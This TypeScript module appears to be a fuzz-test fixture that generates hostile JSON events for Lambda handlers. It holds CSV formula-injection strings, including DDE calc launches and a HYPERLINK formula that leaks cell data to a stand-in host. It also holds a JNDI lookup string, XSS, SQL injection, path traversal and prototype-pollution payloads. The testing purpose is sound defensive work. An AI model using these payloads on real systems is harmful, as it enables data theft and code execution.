/**
 * Hostile values for Lambda events: what a JSON payload can carry that a handler may not expect — nesting 10 000 levels
 * deep, arrays of 100 000 elements, a 5 MB string, a 70 000-character key, keys that name prototype members
 * (`__proto__` as an own key, as `JSON.parse` makes it), numbers at and beyond the edges, formula-injection strings and
 * broken Unicode.
 *
 * The large values are generated as {@link Big} placeholders, which fast-check prints by name in a counterexample
 * (printing a 10 000-deep array would overflow the reporter's stack); {@link materialize} puts the real values in before
 * the handler runs. They are built once and shared, so handlers must not mutate their events.
 */
import fc from 'fast-check';

export const GIANT_BYTES = 5 * 1024 * 1024;
export const DEEP_LEVELS = 10_000;

/** Spreadsheet formula injection (CSV injection) payloads, and the bare prefixes that trigger it. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=',
  '+',
  '-',
  '@',
] as const;

/** Numeric-looking text that is not a finite number (or only barely is). */
export const NUMERIC_JUNK = [
  'NaN',
  '-NaN',
  'nan',
  'Infinity',
  '-Infinity',
  '+Infinity',
  'inf',
  '1e999',
  '-1e999',
  '1e-999',
  '1.7976931348623159e308',
  '4.9e-324',
  '-0',
  '0x1A',
  '1_000',
  '١٢٣',
  ' 42',
  '42 ',
  '1,5',
  '.',
  'e5',
  '1e',
  '--1',
  '9'.repeat(400),
  `0.${'0'.repeat(400)}1`,
] as const;

/** Names of prototype members, which a plain-object lookup table would mistake for entries. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf'] as const;

/** Strings that are not well-formed or are awkward for terminals, paths and parsers. */
export const AWKWARD_STRINGS = [
  '',
  ' ',
  '\u0000',
  '\uD800',
  'a\uDC00b',
  '\uFEFF',
  '\u202Eevil',
  '../../etc/passwd',
  '%2e%2e%2f',
  '${jndi:ldap://x}',
  '<script>alert(1)</script>',
  "'; DROP TABLE x; --",
  '#',
  'a#b c',
  '\r\n',
  '"',
  'ü'.repeat(600),
] as const;

let giant: string | undefined;
/** One 5 MB string, made on first use. */
export function giantString(): string {
  giant ??= 'G'.repeat(GIANT_BYTES);
  return giant;
}

const lazily = <T>(make: () => T): (() => T) => {
  let value: { made: T } | undefined;
  return () => (value ??= { made: make() }).made;
};

/** A large value, generated as its name and made by {@link materialize}. */
export class Big {
  constructor(
    readonly name: string,
    readonly make: () => unknown,
  ) {}

  [fc.toStringMethod](): string {
    return `<${this.name}>`;
  }
}

/** `[[[…]]]` and `{"a":{"a":…}}` nested {@link DEEP_LEVELS} deep, as `JSON.parse` returns them. */
export const DEEP_ARRAY = new Big(
  'array nested 10 000 deep',
  lazily(() => JSON.parse(`${'['.repeat(DEEP_LEVELS)}${']'.repeat(DEEP_LEVELS)}`) as unknown),
);
export const DEEP_OBJECT = new Big(
  'object nested 10 000 deep',
  lazily(() => JSON.parse(`${'{"a":'.repeat(DEEP_LEVELS)}1${'}'.repeat(DEEP_LEVELS)}`) as unknown),
);
export const HUGE_NUMBERS = new Big(
  '100 000 numbers',
  lazily(() => Array.from({ length: 100_000 }, (_, i) => i)),
);
export const HUGE_STRINGS = new Big(
  '100 000 strings',
  lazily(() => Array.from({ length: 100_000 }, (_, i) => `s${i}`)),
);
export const GIANT_STRING = new Big('5 MB string', giantString);

const BIG_VALUES = [DEEP_ARRAY, DEEP_OBJECT, HUGE_NUMBERS, HUGE_STRINGS, GIANT_STRING];

/** A key of 70 000 characters (DynamoDB attribute names stop at 64 KiB), written as this token until materialized. */
export const HUGE_KEY = '<70 000-character key>';
const hugeKey = lazily(() => 'k'.repeat(70_000));

/**
 * Objects whose keys name prototype members as own properties (`JSON.parse('{"__proto__": …}')`); the `polluted`
 * marker some carry must never show up on `Object.prototype`.
 */
export const PROTO_PAYLOADS: readonly unknown[] = [
  JSON.parse('{"__proto__": {"polluted": "yes"}}'),
  JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}'),
  JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}, "prototype": 1}'),
  JSON.parse('{"hasOwnProperty": "no", "toString": 1, "valueOf": {}}'),
  // Libraries that tell maps from class instances by `value.constructor.name` (the DynamoDB marshaller does) can be
  // fooled into reading an object as a string, number, set or map.
  JSON.parse('{"constructor": {"name": "String"}}'),
  JSON.parse('{"constructor": {"name": "Number"}}'),
  JSON.parse('{"constructor": {"name": "Set"}}'),
  JSON.parse('{"constructor": {"name": "Map"}}'),
  JSON.parse('{"constructor": "x"}'),
];

/** Own property `key` (even `__proto__`) set to `value` on a copy of `target`, as `JSON.parse` would produce it. */
export function withOwnKey(target: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const copy = { ...target };
  Object.defineProperty(copy, key, { value, enumerable: true, writable: true, configurable: true });
  return copy;
}

/**
 * `value` with every {@link Big} replaced by the value it names and every {@link HUGE_KEY} by the key itself. Objects
 * are copied with their prototype (null-prototype objects stay so) and own keys (`__proto__` included).
 */
export function materialize(value: unknown): unknown {
  if (value instanceof Big) return value.make();
  if (Array.isArray(value)) return value.map(materialize);
  if (typeof value !== 'object' || value === null || !isPlain(value)) return value;
  const copy = Object.create(Object.getPrototypeOf(value) as object | null) as Record<string, unknown>;
  for (const key of Object.keys(value)) {
    Object.defineProperty(copy, key === HUGE_KEY ? hugeKey() : key, {
      value: materialize((value as Record<string, unknown>)[key]),
      enumerable: true,
      writable: true,
      configurable: true,
    });
  }
  return copy;
}

function isPlain(value: object): boolean {
  const prototype = Object.getPrototypeOf(value) as unknown;
  return prototype === Object.prototype || prototype === null;
}

const numberEdges = fc.constantFrom(
  NaN,
  Infinity,
  -Infinity,
  -0,
  0,
  -1,
  1.5,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_SAFE_INTEGER - 2,
  1e126,
  1e-131,
  2 ** 31,
);

/** A value no schema should have to expect, large ones included. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: numberEdges },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...FORMULAS, ...NUMERIC_JUNK, ...AWKWARD_STRINGS, ...PROTO_KEYS) },
  { weight: 2, arbitrary: fc.constantFrom(...PROTO_PAYLOADS) },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...BIG_VALUES) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

/** A key to add to an event: a prototype member's name, an awkward string, a huge key or anything. */
const hostileKey = fc.oneof(
  fc.constantFrom<string>(...PROTO_KEYS, ...AWKWARD_STRINGS, HUGE_KEY),
  fc.string({ maxLength: 8 }),
);

/**
 * Events for a handler whose well-formed events `plausible` generates: those events themselves (to reach the code
 * behind the schema), the same with one field replaced by or one key added with a hostile value (at the top or in a
 * nested object), a hostile value or anything at all in place of the whole event. Materialize before use.
 */
export function hostileEvents(plausible: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<unknown> {
  const replaced = fc.tuple(plausible, fc.nat(), hostileValue).map(([event, index, value]) => {
    const keys = Object.keys(event);
    return keys.length === 0 ? event : { ...event, [keys[index % keys.length]]: value };
  });
  const added = fc.tuple(plausible, fc.nat(), hostileKey, hostileValue).map(([event, index, key, value]) => {
    const objects = Object.entries(event).filter(
      (entry): entry is [string, Record<string, unknown>] =>
        typeof entry[1] === 'object' && entry[1] !== null && !Array.isArray(entry[1]) && !(entry[1] instanceof Big),
    );
    if (objects.length === 0 || index % 2 === 0) return withOwnKey(event, key, value);
    const [name, inner] = objects[index % objects.length];
    return { ...event, [name]: withOwnKey(inner, key, value) };
  });
  return fc.oneof(
    { weight: 4, arbitrary: plausible },
    { weight: 4, arbitrary: replaced },
    { weight: 3, arbitrary: added },
    { weight: 1, arbitrary: hostileValue },
    { weight: 1, arbitrary: fc.anything({ withNullPrototype: true, withBoxedValues: true, withSparseArray: true }) },
  );
}

/** The own property names of `Object.prototype`, to compare before and after a handler ran. */
export function prototypeSnapshot(): string[] {
  return Object.getOwnPropertyNames(Object.prototype).sort();
}
